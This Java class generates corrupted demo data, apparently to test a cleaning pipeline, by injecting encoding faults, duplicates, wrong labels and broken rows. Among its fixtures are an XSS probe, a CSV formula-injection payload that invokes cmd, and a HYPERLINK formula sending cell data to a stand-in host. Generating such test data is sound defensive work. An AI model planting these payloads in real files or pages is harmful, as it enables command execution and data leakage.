package io.attune.jobs.demo;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;

/** Injects the defects of real texts into the clean texts of one file, and counts them. */
final class Corruptor {
  /** Stands for bytes that are not UTF-8 until the file is written: a private-use character. */
  static final char INVALID = '\uE000';

  private static final String SCRIPT = "<script>alert(1)</script>";
  private static final Charset WINDOWS = Charset.forName("windows-1252");
  private static final List<String> EMOJI =
      List.of("🙂", "👍", "📦", "📈", "🎧", "👀", "🚀", "🤷‍♀️");
  private static final List<String> MARKUP =
      List.of(
          "<p>%s</p>",
          "<div class=\"text\">%s<br/></div>",
          "<b>&raquo;</b> %s <a href=\"https://example.org/?a=1&amp;b=2\">&hellip;</a>");
  private static final List<String> FORMULAS =
      List.of("=HYPERLINK(\"http://example.org/?x=\"&A1,\"more\")", "@SUM(1+9)", "+1+cmd|' /C'!A0");
  private static final List<String> UNKNOWN = List.of("mixed", "5 stars", "positve", "n/a");
  private static final List<String> WRONG_DATES =
      List.of("2025-13-45T25:61:00Z", "yesterday", "31/11/2025", "0000-00-00");

  private final Channel channel;
  private final Random random;
  private final Map<Defect, Integer> counts = new EnumMap<>(Defect.class);

  Corruptor(Channel channel, Random random) {
    this.channel = channel;
    this.random = random;
  }

  /** Returns how often each defect was made so far; those that were not made are absent. */
  Map<Defect, Integer> counts() {
    return Map.copyOf(counts);
  }

  /** Corrupts texts and labels, repeats some, and sorts all by their time of publication. */
  List<Item> corrupt(List<Item> clean) {
    List<Item> items = new ArrayList<>();
    for (Item item : clean) {
      items.add(withDamagedText(withWrongLabels(item)));
    }
    items.addAll(repeats(items));
    items.replaceAll(this::withLostLabels);
    items.replaceAll(this::withOddFields);
    items.sort(Comparator.comparing(Item::published).thenComparing(Item::id));
    if (channel.equals(Channel.NEWSWIRE_EN)) {
      Item newest = items.get(items.size() - 1);
      items.set(items.size() - 1, newest.withTitle(done(Defect.SCRIPT, SCRIPT)));
    }
    return items;
  }

  /** Returns the rows of a file, without header and line ends, with broken rows among them. */
  List<String> rows(List<Item> items) {
    Channel.Layout layout = channel.layout();
    List<String> rows = new ArrayList<>();
    for (Item item : items) {
      List<String> cells = channel.row(item);
      rows.add(layout.format().row(layout.header(), cells));
      if (occurs(Defect.CUT_ROW)) {
        rows.add(layout.format().cut(layout.header(), renamed(cells, "-cut")));
      }
      if (occurs(Defect.WRONG_DATE)) {
        List<String> dated = renamed(cells, "-date");
        dated.set(layout.dateColumn(), any(WRONG_DATES));
        rows.add(layout.format().row(layout.header(), dated));
      }
    }
    return rows;
  }

  private static List<String> renamed(List<String> cells, String suffix) {
    List<String> renamed = new ArrayList<>(cells);
    renamed.set(0, cells.get(0) + suffix);
    return renamed;
  }

  private Item withWrongLabels(Item item) {
    Item labelled = item;
    if (occurs(Defect.WRONG_LABEL)) {
      labelled = labelled.withSentiment(otherSentiment(item));
    }
    if (occurs(Defect.WRONG_LABEL)) {
      List<String> topics = new ArrayList<>(channel.style().topics());
      topics.remove(item.topic());
      labelled = labelled.withTopic(any(topics));
    }
    return labelled;
  }

  private String otherSentiment(Item item) {
    List<String> others = new ArrayList<>();
    for (Sentiment sentiment : Sentiment.values()) {
      if (!sentiment.label().equals(item.sentiment())) {
        others.add(sentiment.label());
      }
    }
    return any(others);
  }

  private Item withDamagedText(Item item) {
    String text = item.text();
    text = maybe(Defect.REPLACEMENT_CHARACTER, text, whole -> inserted(whole, '\uFFFD'));
    text = maybe(Defect.INVALID_BYTES, text, whole -> inserted(whole, INVALID));
    text = maybe(Defect.MOJIBAKE, text, whole -> whole + mojibake());
    text = maybe(Defect.EMOJI, text, whole -> whole + " " + any(EMOJI));
    text = maybe(Defect.MARKUP, text, this::markedUp);
    String title = item.title();
    if (channel.layout().format() == RowFormat.CSV) {
      text = maybe(Defect.LINE_BREAK, text, whole -> whole.replace("。", "。\n") + "（完）");
      title = maybe(Defect.QUOTES, title, whole -> '"' + whole + "\", 快讯");
    }
    return item.withTitle(title).withText(text);
  }

  private String markedUp(String text) {
    String escaped = text.replace("&", "&amp;").replaceFirst(" ", "&nbsp;");
    return any(MARKUP).formatted(escaped);
  }

  private String inserted(String text, char character) {
    int at = random.nextInt(text.length());
    int whole = Character.isLowSurrogate(text.charAt(at)) ? at - 1 : at;
    return text.substring(0, whole) + character + text.substring(whole);
  }

  private String mojibake() {
    String tail = channel.style().isChinese() ? "（责任编辑：李雷）" : " Editor’s note – “naïve café” ©";
    return new String(tail.getBytes(StandardCharsets.UTF_8), WINDOWS);
  }

  private List<Item> repeats(List<Item> items) {
    List<Item> repeats = new ArrayList<>();
    for (Item item : items) {
      if (occurs(Defect.NEAR_DUPLICATE)) {
        repeats.add(edited(again(item, "-near")));
      }
      if (occurs(Defect.EXACT_DUPLICATE)) {
        repeats.add(again(item, "-again"));
      }
    }
    return repeats;
  }

  private Item again(Item item, String suffix) {
    List<String> others = new ArrayList<>(channel.style().sources());
    others.remove(item.source());
    return item.again(item.id() + suffix, any(others), 1 + random.nextInt(90));
  }

  private Item edited(Item item) {
    boolean chinese = channel.style().isChinese();
    return switch (random.nextInt(3)) {
      case 0 -> item.withText(item.text() + (chinese ? "（更新）" : " (Updated.)"));
      case 1 -> item.withText((chinese ? "更新：" : "Update: ") + item.text());
      default -> item.withText(item.text().replaceFirst("\\.$|。$", chinese ? "！" : "!"));
    };
  }

  private Item withLostLabels(Item item) {
    String topic = maybe(Defect.NO_TOPIC, item.topic(), label -> "");
    String sentiment = maybe(Defect.NO_SENTIMENT, item.sentiment(), label -> "");
    if (!sentiment.isEmpty()) {
      sentiment = maybe(Defect.UNKNOWN_LABEL, sentiment, label -> any(UNKNOWN));
    }
    return item.withTopic(topic).withSentiment(sentiment);
  }

  private Item withOddFields(Item item) {
    String title = maybe(Defect.FORMULA, item.title(), whole -> any(FORMULAS));
    String text = maybe(Defect.EMPTY_TEXT, item.text(), whole -> "");
    return item.withTitle(title).withText(text);
  }

  private String maybe(Defect defect, String whole, UnaryOperator<String> corrupt) {
    return occurs(defect) ? corrupt.apply(whole) : whole;
  }

  private boolean occurs(Defect defect) {
    boolean occurs = random.nextDouble() < defect.fraction();
    if (occurs) {
      counts.merge(defect, 1, Integer::sum);
    }
    return occurs;
  }

  private String done(Defect defect, String corrupted) {
    counts.merge(defect, 1, Integer::sum);
    return corrupted;
  }

  private <T> T any(List<T> choices) {
    return choices.get(random.nextInt(choices.size()));
  }
}
